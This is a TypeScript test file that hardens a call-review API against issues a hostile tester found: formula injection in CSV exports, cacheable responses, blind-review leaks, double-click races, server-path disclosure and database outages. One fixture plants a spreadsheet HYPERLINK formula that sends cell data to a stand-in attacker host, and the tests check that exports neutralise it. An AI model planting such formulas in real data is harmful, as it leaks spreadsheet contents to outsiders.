/**
 * What a hostile tester found in the API, each over real HTTP on a real database: formulas in CSV
 * exports, responses a browser or proxy may cache, blind calibration answers shown to an admin, a
 * double click that gave 500s, server paths in messages, and 500 instead of 503 while the
 * database is down.
 */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { buildServer } from '../../api/server.js'
import { openDatabase } from '../../db/index.js'
import { refreshDailyStats } from '../../db/queries/daily-stats.js'
import { type ApiHarness, startApi } from '../helpers/api.js'
import { schemaFor, testDatabaseUrl, testDbKind } from '../helpers/db.js'

let api: ApiHarness
let callId: number
let autoId: number
const range = 'from=2020-01-01T00:00:00Z&to=2030-01-01T00:00:00Z'

beforeAll(async () => {
  api = await startApi('api/hardening', {
    files: ['call-06-phone-angry.wav'],
    users: [
      ['ada', 'admin'],
      ['rita', 'reviewer'],
      ['rob', 'reviewer'],
      ['max', 'manager'],
    ],
  })
  callId = api.idOf.get('call-06-phone-angry.wav') as number
  const detail = await api.call('GET', `/v1/calls/${callId}`, 'max')
  autoId = detail.body.evaluations.find(
    (e: { source: string; scorecard_key: string }) =>
      e.source === 'auto' && e.scorecard_key === 'inbound-support-en',
  ).id
}, 180_000)
afterAll(async () => api?.close())

async function raw(url: string, who: string, headers: Record<string, string> = {}) {
  return fetch(`${api.base}${url}`, { headers: { authorization: `Bearer ${api.tokens[who]}`, ...headers } })
}

test('CSV cells a spreadsheet would run as formulas are neutralised, and the download is named', async () => {
  // Team and agent come from metadata files and upload fields: anyone who can upload chooses them.
  await api.db.query(`UPDATE calls SET team = $2, agent_id = $3 WHERE id = $1`, [
    callId,
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '@SUM(1+1)',
  ])
  const days = await api.db.query<{ d: string }>(
    "SELECT DISTINCT to_char(day, 'YYYY-MM-DD') AS d FROM daily_call_stats",
  )
  await refreshDailyStats(
    api.db,
    days.rows.map((r) => r.d),
  )
  for (const [url, file] of [
    [`/v1/trends?${range}&group_by=team&period=month&format=csv`, 'callqa-trends.csv'],
    [`/v1/trends?${range}&group_by=agent&period=month&format=csv`, 'callqa-trends.csv'],
    [`/v1/trends/failed-items?${range}&format=csv`, 'callqa-failed-items.csv'],
  ] as const) {
    const res = await raw(url, 'max')
    expect(res.status, url).toBe(200)
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${file}"`)
    expect(res.headers.get('cache-control')).toBe('no-store')
    const text = await res.text()
    // No line has a cell that begins with a formula character, quoted or not.
    for (const line of text.split('\r\n'))
      for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        expect(cell.replace(/^"/, ''), `${url}: ${line}`).not.toMatch(/^[=+@\t\r]|^-(?!\d)/)
    if (url.includes('group_by=team'))
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)
    if (url.includes('group_by=agent')) expect(text).toContain(`"'@SUM(1+1)"`)
  }
})

test('personal data is never cached or sniffed; the docs page has a CSP', async () => {
  for (const url of [`/v1/calls`, `/v1/calls/${callId}`, `/v1/calls/${callId}/audio`, '/v1/nothing-here']) {
    const res = await raw(url, 'max')
    expect(res.headers.get('cache-control'), url).toBe('no-store')
    expect(res.headers.get('x-content-type-options'), url).toBe('nosniff')
    await res.arrayBuffer()
  }
  const docs = await fetch(`${api.base}/docs/static/index.html`)
  expect(docs.status).toBe(200)
  expect(docs.headers.get('content-security-policy')).toMatch(/default-src 'self'/)
})

test('a calibration review stays blind to an admin: no answers in any reply, and no submitting it for its reviewer', async () => {
  const created = await api.call('POST', '/v1/calibrations', 'max', {
    call_id: callId,
    scorecard: 'inbound-support-en',
    reviewers: ['rita', 'rob'],
    title: 'blind',
  })
  expect(created.status).toBe(201)
  const opened = await api.call('POST', `/v1/calibrations/${created.body.id}/review`, 'rita')
  expect(opened.status).toBe(201)
  const reviewId = opened.body.id
  const item = opened.body.items[0].item_key
  expect(
    (
      await api.call('PATCH', `/v1/reviews/${reviewId}`, 'rita', {
        comment: 'SECRET-ANSWER',
        items: [{ item_key: item, comment: 'SECRET-ITEM' }],
      })
    ).status,
  ).toBe(200)
  const peek = await api.call('PATCH', `/v1/reviews/${reviewId}`, 'ada', { comment: 'overwritten' })
  expect(peek.status).toBe(403)
  expect(JSON.stringify(peek.body)).not.toMatch(/SECRET/)
  const submit = await api.call('POST', `/v1/reviews/${reviewId}/submit`, 'ada')
  expect(submit.status).toBe(403)
  expect(JSON.stringify(submit.body)).not.toMatch(/SECRET/)
  const still = await api.db.query<{ status: string; comment: string }>(
    'SELECT status, comment FROM evaluations WHERE id = $1',
    [reviewId],
  )
  expect(still.rows[0]).toEqual({ status: 'draft', comment: 'SECRET-ANSWER' })
})

test('opening a review twice at once (a double click) returns the same draft, never a 500', async () => {
  const opened = await Promise.all(
    Array.from({ length: 4 }, () => api.call('POST', `/v1/evaluations/${autoId}/reviews`, 'rob')),
  )
  expect(opened.map((o) => o.status).sort()).toEqual([200, 200, 200, 201])
  expect(new Set(opened.map((o) => o.body.id)).size).toBe(1)
})

test('a recording the server cannot decode is a 422 that names no server path', async () => {
  const stored = await api.db.query<{ storage_uri: string }>('SELECT storage_uri FROM calls WHERE id = $1', [
    callId,
  ])
  const { writeFileSync, readFileSync } = await import('node:fs')
  const { storagePath } = await import('../../pipeline/storage.js')
  const file = storagePath(api.storageDir, stored.rows[0]?.storage_uri as string)
  const keep = readFileSync(file)
  try {
    // The stored copy is damaged, and the review page asks for a playable copy.
    await api.db.query(`UPDATE calls SET audio_format = '{"codec": "amr_nb"}' WHERE id = $1`, [callId])
    writeFileSync(file, 'not audio at all')
    const res = await api.call('GET', `/v1/calls/${callId}/audio?playable=true`, 'max')
    expect(res.status).toBe(422)
    expect(res.body.error.message).not.toContain(api.storageDir)
    expect(res.body.error.message).not.toMatch(/\/[\w.-]+\/[\w.-]+\//)
  } finally {
    writeFileSync(file, keep)
  }
})

test('while the database is unreachable the API answers 503 with Retry-After, not 500', async () => {
  // A Postgres server that is not there (nothing listens on port 1).
  const down = await openDatabase({ databaseUrl: 'postgres://postgres@127.0.0.1:1/test' })
  const app = await buildServer({ db: down, storageDir: api.storageDir })
  try {
    const res = await app.inject({ method: 'GET', url: '/v1/calls', headers: { authorization: 'Bearer x' } })
    expect(res.statusCode).toBe(503)
    expect(res.headers['retry-after']).toBe('5')
    expect(res.json().error.code).toBe('QA_ERR_DB_UNAVAILABLE')
  } finally {
    await app.close()
    await down.close()
  }
})

test.runIf(testDbKind === 'postgres')(
  'a locked table: a request gets 503 once its statement runs out of time, and /readyz says not ready',
  async () => {
    // The same schema, through a server whose statements may run 1 s.
    const schema = schemaFor('api/hardening')
    const slow = await openDatabase({ databaseUrl: testDatabaseUrl, schema, statementTimeoutMs: 1000 })
    const app = await buildServer({ db: slow, storageDir: api.storageDir })
    const locker = await openDatabase({ databaseUrl: testDatabaseUrl, schema })
    let release!: () => void
    const held = new Promise<void>((resolve) => {
      release = resolve
    })
    const locking = locker.withTransaction(async (tx) => {
      await tx.query('LOCK TABLE calls IN ACCESS EXCLUSIVE MODE')
      await held
    })
    try {
      await new Promise((r) => setTimeout(r, 200))
      const began = Date.now()
      const res = await app.inject({
        method: 'GET',
        url: '/v1/calls',
        headers: { authorization: `Bearer ${api.tokens.max}` },
      })
      expect(res.statusCode).toBe(503)
      expect(res.headers['retry-after']).toBe('5')
      expect(Date.now() - began).toBeLessThan(10_000)
      const ready = await app.inject({ method: 'GET', url: '/readyz' })
      expect(ready.statusCode).toBe(503)
    } finally {
      release()
      await locking
      await app.close()
      await slow.close()
      await locker.close()
    }
    // Once the lock is gone, it is ready again.
    const app2 = await buildServer({ db: api.db, storageDir: api.storageDir })
    expect((await app2.inject({ method: 'GET', url: '/readyz' })).statusCode).toBe(200)
    await app2.close()
  },
)
